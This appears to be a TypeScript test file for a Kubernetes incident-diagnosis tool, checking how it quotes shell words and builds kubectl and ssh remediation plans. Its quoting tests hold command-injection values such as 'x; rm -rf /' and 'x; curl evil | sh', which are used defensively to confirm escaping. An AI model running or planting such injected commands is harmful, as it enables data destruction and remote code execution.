import { describe, expect, it } from "vitest";
import { faultKinds, faultOf } from "../faults/catalogue.ts";
import { ago, alert, app, asOf, change, event, golden, node, step } from "../testing/builders.ts";
import { emptyWorld, id, run, type World } from "../testing/world.ts";
import { actionCatalogue, actionOf, commandOf, type ActionId } from "./actions.ts";
import { halfMore } from "./arguments.ts";
import { isAddressable, shellWord, typed } from "./kubectl.ts";
import { raisedQuota } from "./quota-raise.ts";

describe("a command", () => {
  it.each([
    ["checkout", "checkout"],
    ["a b", "'a b'"],
    ["x; rm -rf /", "'x; rm -rf /'"],
    ["it's", String.raw`'it'\''s'`],
    ["$(id)", "'$(id)'"],
    ["", "''"],
  ])("writes %j as the shell word %s", (word, expected) => expect(shellWord(word)).toBe(expected));

  it("quotes hostile names of things", () => {
    const target = id("deployment", "x; curl evil | sh");
    expect(commandOf(actionOf("kubernetes.rollout_undo"), target, {})).toBe(
      "kubectl --context eu-1 --namespace shop rollout undo 'deployment/x; curl evil | sh'",
    );
  });

  it.each(Object.keys(actionCatalogue) as ActionId[])("of %s is never empty, and names its cluster or the node it is done on", (action) => {
    const target = actionOf(action).on === "node" ? id("node", "worker-1") : id("deployment", "cart");
    expect(commandOf(actionOf(action), target, {})).toMatch(/^(kubectl --context eu-1|ssh worker-1) \S+/);
  });
});

describe("the catalogue of actions", () => {
  it("lets nothing that only looks have a risk, and nothing that mutates have none", () => {
    for (const action of Object.values(actionCatalogue)) expect(action.risk === "none").toBe(!action.mutates);
  });

  it("is used as a whole by the faults and the changes", () => {
    const undoing = ["kubernetes.rollout_undo", "config.revert", "config.restore_entry", "config.restore_environment"];
    const used = new Set<string>([...faultKinds.flatMap((kind) => faultOf(kind).plan), ...undoing]);
    expect(Object.keys(actionCatalogue).filter((action) => !used.has(action))).toEqual([]);
  });
});

describe("how kubectl names a thing", () => {
  it("says Kubernetes' own words for what this product calls otherwise", () => {
    expect(typed(id("config", "pool"))).toBe("configmap/pool");
    expect(typed(id("claim", "data"))).toBe("persistentvolumeclaim/data");
  });

  it("leaves out what it cannot name", () => {
    expect(isAddressable(id("deployment", "cart"))).toBe(true);
    expect(isAddressable(id("node", "worker-1", ""))).toBe(true);
    expect(isAddressable(id("service", "cart", ""))).toBe(false);
    expect(isAddressable(id("external", "payments.example"))).toBe(false);
  });
});

describe("how far a quota is raised", () => {
  const refused = (detail: string) =>
    raisedQuota([
      {
        what: "quota_exceeded_cpu",
        entity: id("namespace", "shop", ""),
        strength: 1,
        evidence: [],
        values: { detail },
        text: { en: "", "zh-TW": "" },
      },
    ]);

  it.each([
    ["requested: requests.cpu=1, used: requests.cpu=10, limited: requests.cpu=10", "requests.cpu=11"],
    ["requested: limits.memory=512Mi,pods=1, used: limits.memory=2Gi,pods=4, limited: limits.memory=2Gi,pods=9", "limits.memory=2560Mi"],
    ["requested: cpu=100m, used: cpu=1950m, limited: cpu=2", "cpu=2050m"],
  ])("%s: to what is used and what was asked for", (words, hard) => {
    expect(refused(`pods "a" is forbidden: exceeded quota: limits, ${words}`)).toEqual({ quota: "limits", hard });
  });

  it("is not guessed from a refusal that was cut", () => {
    expect(refused("exceeded quota: limits, requested: cpu=1, used: c…")).toBeNull();
  });
});

describe("halfMore", () => {
  it.each([
    ["512Mi", "768Mi"],
    ["1Gi", "1536Mi"],
    ["2Gi", "3Gi"],
    ["500m", "750m"],
    ["1", "1.5"],
    ["3Mi", "4608Ki"],
  ])("of %s is %s", (before, after) => expect(halfMore(before)).toBe(after));

  it.each(["", "much", "-1Mi", "1e3"])("of %j is not guessed", (quantity) => expect(halfMore(quantity)).toBeNull());
});

describe("a plan", () => {
  const service = id("service", "cart");
  const hurt = golden(service, { errors: step(0.001, 0.3, { since: 12 }), latency: step(0.1, 1, { since: 12 }) });
  const base = (more: Partial<World>): World => ({
    ...emptyWorld(asOf),
    alerts: [alert("A", service, 10)],
    series: hurt,
    edges: app("cart").edges,
    objects: [...app("cart").objects, node("worker-1")],
    ...more,
  });
  const steps = (world: World) => run(world).diagnosis.plan.steps;

  it("for too little CPU adds replicas and raises the limit, counted from what runs", () => {
    const cpu = { of: service, signal: "resource:cpu:limit", unit: "1", curve: step(0.4, 0.99, { since: 13 }) };
    const plan = steps(base({ series: [...hurt, cpu, { ...cpu, signal: "named:pool_used", curve: () => 0.1 }] }));
    expect(plan.slice(0, 2).map(({ command }) => command)).toEqual([
      "kubectl --context eu-1 --namespace shop scale deployment/cart --replicas=2",
      "kubectl --context eu-1 --namespace shop set resources deployment/cart --containers=cart --limits=cpu=1.5",
    ]);
  });

  it("for a node that is not ready cordons before it drains, and says that draining cannot be undone", () => {
    const plan = steps(base({ objects: [...app("cart").objects, node("worker-1", { Ready: { status: "False", since: ago(13) } })] }));
    expect(plan.map(({ action }) => action)).toEqual(["kubernetes.cordon", "kubernetes.drain", "kubernetes.inspect_node"]);
    expect(plan[1]).toMatchObject({ reversible: false, risk: "high" });
  });

  it("restarts the unit of a node that is told to be down, where the node tells which one it is", () => {
    const down = node("worker-1", { Ready: { status: "False", since: ago(13), message: "container runtime is down" } });
    const told = { ...down, status: { ...down.status, nodeInfo: { containerRuntimeVersion: "containerd://1.7.2" } } };
    const { diagnosis } = run(base({ objects: [...app("cart").objects, told] }));
    expect(diagnosis.causes[0]?.fault).toBe("container_runtime_down");
    expect(diagnosis.plan.steps[0]?.command).toBe("ssh worker-1 sudo systemctl restart containerd");
    expect(steps(base({ objects: [...app("cart").objects, down] })).map(({ action }) => action)).not.toContain("node.restart_unit");
  });

  it("corrects the service itself where its selector is at fault", () => {
    const astray: World["objects"][number] = {
      ...node("x"),
      entity: service,
      api_kind: "Service",
      spec: { selector: { app: "carts" } },
      status: {},
    };
    const { objects, edges } = app("cart");
    const { diagnosis } = run(base({ objects: [...objects, astray], edges: edges.filter(({ kind }) => kind !== "selects") }));
    expect(diagnosis.causes[0]?.fault).toBe("service_selects_nothing");
    const [correct, endpoints] = diagnosis.plan.steps;
    expect([endpoints, correct].map((step) => step?.command)).toEqual([
      "kubectl --context eu-1 --namespace shop get endpointslices --selector=kubernetes.io/service-name=cart",
      "kubectl --context eu-1 --namespace shop edit service/cart",
    ]);
  });

  it("leaves out a step whose arguments the evidence does not tell", () => {
    const killed = event(id("pod", "cart-5d4f8b9c7-x2x9z"), "OOMKilling", { message: "Memory cgroup out of memory", first: 12, count: 4 });
    const blind = base({ events: [killed], objects: [] });
    expect(steps(blind).map(({ action }) => action)).not.toContain("kubernetes.raise_memory_limit");
  });

  const undone = (more: Parameters<typeof change>[2], on = id("deployment", "cart"), others: World["changes"] = []) =>
    steps(base({ changes: [...others, change("new", on, more)] }))[0];
  const rollout = (revision: number, minutesAgo: number, more: Partial<Parameters<typeof change>[2]> = {}) =>
    change(`r${revision}`, id("deployment", "cart"), {
      id: `rollout/shop/cart/${revision}`,
      origin: "rollout",
      minutesAgo,
      ...more,
    });

  it("rolls back to the revision that a rollout replaced", () => {
    const { id: name, ...latest } = rollout(7, 12.5, { from: "cart:1" });
    const step = undone({ ...latest, id: name, minutesAgo: 12.5 }, undefined, [rollout(4, 900), rollout(5, 600)]);
    expect(step?.command).toBe("kubectl --context eu-1 --namespace shop rollout undo deployment/cart --to-revision=5");
    expect(step?.title.en).toBe("Roll deployment cart back to revision 5");
  });

  it("takes back a change of a rollout that was no deployment by its revision, too", () => {
    const { id: name, ...latest } = rollout(7, 12.5, { kind: "config", from: "revision 6" });
    expect(undone({ ...latest, id: name, minutesAgo: 12.5 })?.command).toMatch(/rollout undo deployment\/cart --to-revision=6$/);
  });

  it("names no revision for a change that somebody reported", () => {
    expect(undone({ minutesAgo: 12.5 })?.command).toBe("kubectl --context eu-1 --namespace shop rollout undo deployment/cart");
  });

  it.each([
    ["POOL_MAX=50", "config.restore_environment", "set env deployment/cart POOL_MAX=50"],
    ["pool.max=50", "config.revert", "edit deployment/cart"],
  ])("puts the former setting %s back by %s", (...[from, action, command]) => {
    const step = undone({ minutesAgo: 12.5, kind: "config", from });
    expect(step).toMatchObject({ action, command: `kubectl --context eu-1 --namespace shop ${command}`, risk: "medium" });
    expect(step?.arguments).not.toHaveProperty("from");
  });

  it("puts a former entry back into a configuration without an editor", () => {
    const uses = { from: id("deployment", "cart"), to: id("config", "cart"), kind: "uses" as const, origin: "declared" };
    const changed = change("new", id("config", "cart"), { minutesAgo: 12.5, kind: "config", from: "pool.max=50", touches: [service] });
    const [step] = steps(base({ changes: [changed], edges: [...app("cart").edges, uses] }));
    expect(step?.command).toBe(
      `kubectl --context eu-1 --namespace shop patch configmap/cart --type=merge '--patch={"data":{"pool.max":"50"}}'`,
    );
  });

  it("never rolls a first rollout back: there is nothing to go back to", () => {
    const image = event(id("pod", "cart-5d4f8b9c7-x2x9z"), "Failed", {
      message: 'Failed to pull image "cart:9": not found',
      first: 12,
      last: 1,
      count: 9,
    });
    const created = change("cart 1", id("deployment", "cart"), { minutesAgo: 12.5, from: null, to: "cart:9", origin: "rollout" });
    const { diagnosis } = run(base({ events: [image], changes: [created] }));
    expect(diagnosis.causes[0]).toMatchObject({ fault: "image_not_found", change: created.id });
    expect(diagnosis.plan.steps.map(({ action }) => action)).toEqual(["kubernetes.correct_template", "kubernetes.inspect_events"]);
  });

  it("is not made for a cause that is rather wrong than right", () => {
    const slight = golden(service, { errors: step(0.001, 0.05, { since: 2 }) });
    const { diagnosis } = run(base({ series: slight }));
    expect(diagnosis.causes[0]?.confidence).toBeLessThan(0.5);
    expect(diagnosis.plan).toEqual({ for_cause: null, requires_approval: false, steps: [] });
  });

  it("proposes nothing that changes anything while the verdict is inconclusive", () => {
    const { diagnosis } = run(base({}));
    expect(diagnosis.verdict).toBe("inconclusive");
    expect(diagnosis.causes[0]?.fault).toBe("unknown");
    expect(diagnosis.plan.steps.length).toBeGreaterThan(0);
    expect(diagnosis.plan.steps.filter(({ mutates }) => mutates)).toEqual([]);
    expect(diagnosis.plan.requires_approval).toBe(false);
  });
});
